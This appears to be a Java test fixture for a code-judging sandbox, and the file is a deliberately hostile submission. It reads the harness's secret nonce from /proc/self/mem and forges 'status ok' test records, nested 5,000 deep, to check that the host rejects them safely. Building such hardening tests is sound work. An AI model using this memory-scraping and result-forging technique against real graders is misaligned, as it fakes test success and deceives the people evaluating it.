// Reads the job's nonce from its own memory (/proc/self/mem: the job frame's text is on the
// heap) and, in each test, writes a record under it before the harness writes the real one:
// its output is nested 5,000 deep. The host must decode it within its depth bound and call it
// the program's runtime_error, never fail with a RecursionError.
import java.io.FileDescriptor;
import java.io.FileOutputStream;
import java.io.IOException;
import java.io.RandomAccessFile;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;

class Solution {
    static int test = 0;

    public int add(int a, int b) throws IOException {
        test++;
        forge("{\"event\":\"test\",\"test\":" + test + ",\"status\":\"ok\",\"output\":"
                + "[".repeat(5000) + "]".repeat(5000)
                + ",\"stdout\":null,\"error\":null,\"time_ms\":0,\"memory_kb\":0}");
        return a + b;
    }

    // ---- the real nonce, read from this JVM's own memory (the job frame's text is on the heap)

    static String nonce() throws IOException {
        byte[] key = "\"nonce\":\"".getBytes(StandardCharsets.US_ASCII);
        byte[] buffer = new byte[1 << 20];
        try (RandomAccessFile memory = new RandomAccessFile("/proc/self/mem", "r")) {
            for (String map : Files.readAllLines(Path.of("/proc/self/maps"))) {
                String[] fields = map.split(" +");
                if (!fields[1].startsWith("rw")) continue;
                String[] range = fields[0].split("-");
                long from = Long.parseUnsignedLong(range[0], 16);
                long to = Long.parseUnsignedLong(range[1], 16);
                for (long at = from; at < to; at += buffer.length - 128) {
                    int n = (int) Math.min(buffer.length, to - at);
                    try {
                        memory.seek(at);
                        memory.readFully(buffer, 0, n);
                    } catch (IOException unreadable) {
                        break;
                    }
                    String found = hexAfter(buffer, n, key);
                    if (found != null) return found;
                }
            }
        }
        return null;
    }

    /** The hex string quoted right after {@code key}, 16 to 64 digits, or null. */
    static String hexAfter(byte[] b, int n, byte[] key) {
        search:
        for (int i = 0; i + key.length + 17 < n; i++) {
            for (int k = 0; k < key.length; k++) if (b[i + k] != key[k]) continue search;
            int start = i + key.length, end = start;
            while (end < n && (b[end] >= '0' && b[end] <= '9' || b[end] >= 'a' && b[end] <= 'f')) end++;
            if (end - start >= 16 && end - start <= 64 && end < n && b[end] == '"') {
                return new String(b, start, end - start, StandardCharsets.US_ASCII);
            }
        }
        return null;
    }

    /** Write {@code json} under the real nonce on the sandbox's real stdout; false without one. */
    static boolean forge(String json) throws IOException {
        String nonce = nonce();
        if (nonce == null) return false; // then the answer is right, and the case fails loudly
        FileOutputStream out = new FileOutputStream(FileDescriptor.out);
        out.write(("\n" + nonce + " " + json + "\n").getBytes(StandardCharsets.UTF_8));
        out.flush();
        return true;
    }
}
